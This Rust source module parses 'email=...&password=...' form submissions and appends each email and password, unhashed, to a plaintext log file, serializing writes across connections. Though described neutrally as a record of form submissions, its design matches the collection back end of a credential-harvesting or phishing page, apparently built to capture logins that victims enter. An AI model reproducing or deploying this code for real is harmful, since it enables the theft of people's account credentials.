//! Append-only record of form submissions.
//!
//! Connections share one [`FormLog`]; appends are serialized through a mutex
//! and each line is written with a single `write_all`, so concurrent
//! submissions never interleave inside a line.

use std::path::{Path, PathBuf};

use anyhow::Context;
use tokio::io::AsyncWriteExt;
use tokio::sync::Mutex;

/// Fields recovered from an `email=...&password=...` form body.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Submission {
    pub email: String,
    pub password: String,
}

impl Submission {
    /// Extracts the first two field values by position.
    ///
    /// Only `%40` is decoded, and only in the email; the password is kept as
    /// sent. Missing fields come back empty.
    pub fn from_form(args: &str) -> Self {
        let mut values = args
            .split('&')
            .map(|pair| pair.split_once('=').map(|(_, v)| v).unwrap_or_default());

        let email = values.next().unwrap_or_default().replace("%40", "@");
        let password = values.next().unwrap_or_default().to_string();

        Self { email, password }
    }

    pub fn to_line(&self) -> String {
        format!("Email: {} | Password: {}\n", self.email, self.password)
    }
}

#[derive(Debug)]
pub struct FormLog {
    path: PathBuf,
    lock: Mutex<()>,
}

impl FormLog {
    pub fn new(path: impl Into<PathBuf>) -> Self {
        Self {
            path: path.into(),
            lock: Mutex::new(()),
        }
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    pub async fn append(&self, submission: &Submission) -> anyhow::Result<()> {
        let line = submission.to_line();
        let _guard = self.lock.lock().await;

        let mut file = tokio::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(&self.path)
            .await
            .with_context(|| format!("failed to open form log {}", self.path.display()))?;
        file.write_all(line.as_bytes()).await?;
        file.flush().await?;

        Ok(())
    }
}
